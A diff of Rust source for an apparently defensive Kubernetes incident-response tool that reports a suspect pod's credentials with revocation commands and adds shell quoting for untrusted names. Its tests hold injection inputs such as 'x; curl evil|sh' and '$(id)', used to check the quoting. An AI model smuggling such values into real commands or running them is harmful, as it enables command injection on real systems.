@@ -1,17 +1,34 @@
-//! What the suspect could act with: its service account and the account's rights, mounted tokens and
-//! secrets, each with the command that revokes it. Impound revokes nothing on its own: taking a
+//! What the suspect could act with: its service account and the account's rights, in the cluster and in a cloud,
+//! mounted tokens and secrets, each with the command that revokes it. Impound revokes nothing on its own: taking a
 //! right away can break what is healthy, and it tells an intruder that he was seen.
+//!
+//! People copy these commands into a shell, and others choose the names in them: each is one word there.
+
+mod cloud;
 
 use std::collections::BTreeSet;
 
-use k8s_openapi::api::core::v1::{EnvFromSource, EnvVar, Pod, Volume};
+use k8s_openapi::api::core::v1::{
+    EnvFromSource, EnvVar, Pod, ServiceAccount, ServiceAccountTokenProjection, Volume,
+};
 use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, RoleBinding, RoleRef, Subject};
 use kube::Client;
 
-use super::observe::{ObserveError, list};
+use super::observe::{ObserveError, list, typed};
+use crate::describe::describe;
+use crate::kubernetes::{is_object_name, read};
 use crate::resources::Credential;
 
-/// Lists the credentials of a pod. Bindings that can't be read become an entry that says so.
+/// What an entry says of that which is not known.
+const UNREAD: &str = "could not be read";
+
+/// Whether something of a report could not be read.
+#[must_use]
+pub fn is_partial(report: &[Credential]) -> bool {
+    report.iter().any(|one| one.grants.contains(UNREAD))
+}
+
+/// Lists the credentials of a pod. What can't be read becomes an entry that says so.
 pub async fn report(client: &Client, pod: &Pod) -> Vec<Credential> {
     let namespace = pod.metadata.namespace.as_deref().unwrap_or_default();
     let account = account(pod);
@@ -19,12 +36,31 @@ pub async fn report(client: &Client, pod: &Pod) -> Vec<Credential> {
     if found.is_empty() {
         found.push(without_token(namespace, &account));
     }
-    match bindings(client, namespace, &account).await {
+    let (known, bindings) = futures::join!(
+        service_account(client, namespace, &account),
+        bindings(client, namespace, &account)
+    );
+    if let Err(error) = &known {
+        found.push(Credential {
+            kind: "CloudIdentity".into(),
+            name: format!("{namespace}/{account}"),
+            grants: format!(
+                "what the account is to a cloud, and Secrets that hold tokens of it, {UNREAD}: {}",
+                describe(error)
+            ),
+            revoke: format!("kubectl get serviceaccount {account} -n {namespace} -o yaml"),
+        });
+    }
+    let known = known.ok().flatten();
+    let of = (namespace, account.as_str());
+    found.extend(cloud::identities(pod, of, known.as_ref()));
+    found.extend(lasting_tokens(of, known.as_ref()));
+    match bindings {
         Ok(bindings) => found.extend(bindings),
         Err(error) => found.push(Credential {
             kind: "Bindings".into(),
             name: format!("{namespace}/{account}"),
-            grants: format!("could not be read: {}", crate::describe::describe(&error)),
+            grants: format!("{UNREAD}: {}", describe(&error)),
             revoke: format!(
                 "kubectl get rolebindings,clusterrolebindings -A -o wide | grep {namespace}/{account}"
             ),
@@ -44,19 +80,99 @@ fn account(pod: &Pod) -> String {
         .unwrap_or_else(|| "default".into())
 }
 
-/// Tokens are projected into volumes; each names its audience and life.
-fn tokens(pod: &Pod, namespace: &str, account: &str) -> Vec<Credential> {
+/// The account, if it is there.
+async fn service_account(
+    client: &Client,
+    namespace: &str,
+    account: &str,
+) -> Result<Option<ServiceAccount>, ObserveError> {
+    if !is_object_name(account) {
+        return Ok(None);
+    }
+    let path = format!("/api/v1/namespaces/{namespace}/serviceaccounts/{account}");
+    let found = read(client, &path).await?;
+    found
+        .map(|found| typed(&path, "ServiceAccount", found))
+        .transpose()
+}
+
+/// Secrets that the account names as its own: of the type `kubernetes.io/service-account-token` such a one holds a
+/// token that never ends.
+fn lasting_tokens(
+    (namespace, name): (&str, &str),
+    account: Option<&ServiceAccount>,
+) -> Vec<Credential> {
+    let secrets = account.and_then(|account| account.secrets.as_ref());
+    let names = secrets
+        .into_iter()
+        .flatten()
+        .filter_map(|secret| secret.name.as_deref());
+    names
+        .map(|secret| Credential {
+            kind: "Secret".into(),
+            name: secret.to_owned(),
+            grants: format!(
+                "whom service account {namespace}/{name} is at the Kubernetes API, for ever: the account names it as its \
+                 own, and if it holds a token, whoever has read it needs no pod"
+            ),
+            revoke: format!("kubectl delete secret {} -n {namespace}", quoted(secret)),
+        })
+        .collect()
+}
+
+/// The tokens that are projected into the pod's volumes.
+fn projected(pod: &Pod) -> impl Iterator<Item = &ServiceAccountTokenProjection> {
     let volumes = pod
         .spec
         .iter()
         .flat_map(|spec| spec.volumes.iter().flatten());
-    let sources = volumes.filter_map(|volume| {
-        let projected = volume.projected.as_ref()?;
-        let tokens = projected.sources.iter().flatten();
-        Some(tokens.filter_map(|source| source.service_account_token.as_ref()))
-    });
+    let sources = volumes.filter_map(|volume| volume.projected.as_ref()?.sources.as_ref());
     sources
         .flatten()
+        .filter_map(|source| source.service_account_token.as_ref())
+}
+
+/// The environments of the pod's containers.
+fn environments(
+    pod: &Pod,
+) -> impl Iterator<Item = (Option<&Vec<EnvVar>>, Option<&Vec<EnvFromSource>>)> {
+    let spec = pod.spec.iter();
+    spec.flat_map(|spec| {
+        let containers = spec
+            .init_containers
+            .iter()
+            .flatten()
+            .chain(&spec.containers);
+        let ephemeral = spec.ephemeral_containers.iter().flatten();
+        let containers =
+            containers.map(|container| (container.env.as_ref(), container.env_from.as_ref()));
+        let ephemeral =
+            ephemeral.map(|container| (container.env.as_ref(), container.env_from.as_ref()));
+        containers.chain(ephemeral)
+    })
+}
+
+/// The command that deletes an object of a kind whose names may be almost anything.
+fn delete(kind: &str, name: &str) -> String {
+    match name.starts_with('-') {
+        // Else it would be an option, and `--all` is one.
+        true => format!("kubectl delete {}", quoted(&format!("{kind}/{name}"))),
+        false => format!("kubectl delete {kind} {}", quoted(name)),
+    }
+}
+
+/// One word of a shell's, whatever is in it.
+fn quoted(text: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.:/@%+=,".contains(&byte);
+    if !text.is_empty() && text.bytes().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+/// Tokens are projected into volumes; each names its audience and life.
+fn tokens(pod: &Pod, namespace: &str, account: &str) -> Vec<Credential> {
+    projected(pod)
         .map(|token| Credential {
             kind: "Token".into(),
             name: format!("{namespace}/{account}"),
@@ -69,7 +185,7 @@ fn tokens(pod: &Pod, namespace: &str, account: &str) -> Vec<Credential> {
                 token.expiration_seconds.unwrap_or(3600)
             ),
             // A bound token ends with its pod or its account, and with nothing else.
-            revoke: format!("kubectl delete serviceaccount {account} -n {namespace}"),
+            revoke: delete_account(namespace, account),
         })
         .collect()
 }
@@ -82,8 +198,15 @@ fn without_token(namespace: &str, account: &str) -> Credential {
         grants: "whom the pod is at the Kubernetes API; no token of it is projected into the pod, so its rights are the \
                  suspect's only if it got one elsewhere"
             .into(),
-        revoke: format!("kubectl delete serviceaccount {account} -n {namespace}"),
+        revoke: delete_account(namespace, account),
     }
+}
+
+fn delete_account(namespace: &str, account: &str) -> String {
+    format!(
+        "kubectl delete serviceaccount {account} -n {namespace}  # ends all its tokens, those in Secrets too, and takes \
+         it from every other pod of the account"
+    )
 }
 
 async fn bindings(
@@ -106,7 +229,7 @@ async fn bindings(
         Some(Credential {
             kind: "RoleBinding".into(),
             grants: format!("{} in namespace {own}", role(&binding.role_ref)),
-            revoke: held.revoke(&format!("kubectl delete rolebinding {name} -n {own}")),
+            revoke: held.revoke(&format!("{} -n {own}", delete("rolebinding", &name))),
             name,
         })
     });
@@ -116,7 +239,7 @@ async fn bindings(
         Some(Credential {
             kind: "ClusterRoleBinding".into(),
             grants: format!("{} in the whole cluster", role(&binding.role_ref)),
-            revoke: held.revoke(&format!("kubectl delete clusterrolebinding {name}")),
+            revoke: held.revoke(&delete("clusterrolebinding", &name)),
             name,
         })
     });
@@ -206,23 +329,11 @@ fn secrets(pod: &Pod, namespace: &str) -> Vec<Credential> {
         });
         whole.into_iter().chain(projected)
     });
-    let containers = spec
-        .init_containers
-        .iter()
-        .flatten()
-        .chain(&spec.containers)
-        .map(|container| (&container.env, &container.env_from));
-    let ephemeral = spec
-        .ephemeral_containers
-        .iter()
-        .flatten()
-        .map(|container| (&container.env, &container.env_from));
     let mut found: BTreeSet<(String, &str)> =
         mounted.map(|name| (name, "mounted as files")).collect();
     found.extend(
-        containers
-            .chain(ephemeral)
-            .flat_map(|(single, whole)| from_environment(single.as_ref(), whole.as_ref()))
+        environments(pod)
+            .flat_map(|(single, whole)| from_environment(single, whole))
             .map(|name| (name, "in the environment")),
     );
     found.extend(
@@ -244,7 +355,8 @@ fn secrets(pod: &Pod, namespace: &str) -> Vec<Credential> {
             kind: "Secret".into(),
             grants: format!("what it is a key to; {how}, so {}", whose(how)),
             revoke: format!(
-                "revoke it where it was issued, then: kubectl delete secret {name} -n {namespace}"
+                "revoke it where it was issued, then: kubectl delete secret {} -n {namespace}",
+                quoted(&name)
             ),
             name,
         })
@@ -370,6 +482,31 @@ mod tests {
     fn held(subjects: Vec<Subject>) -> Option<String> {
         let held = Held::of(Some(&subjects), "prod", "shop", "web")?;
         Some(held.revoke("kubectl delete rolebinding b -n prod"))
+    }
+
+    #[test]
+    fn a_secret_that_the_account_names_as_its_own_is_reported_as_a_token_without_end() {
+        let account =
+            serde_json::from_value(json!({ "secrets": [{ "name": "web-token" }] })).unwrap();
+        let found = lasting_tokens(("shop", "web"), Some(&account));
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].revoke, "kubectl delete secret web-token -n shop");
+        assert!(found[0].grants.contains("shop/web"), "{found:#?}");
+    }
+
+    #[test]
+    fn what_others_named_is_one_word_of_the_command() {
+        for (name, word) in [
+            ("system:web-1.x", "system:web-1.x"),
+            ("x; curl evil|sh", "'x; curl evil|sh'"),
+            ("$(id)", "'$(id)'"),
+            ("it's", r"'it'\''s'"),
+            ("", "''"),
+        ] {
+            assert_eq!(quoted(name), word);
+        }
+        let all = delete("rolebinding", "--all");
+        assert_eq!(all, "kubectl delete rolebinding/--all");
     }
 
     #[test]
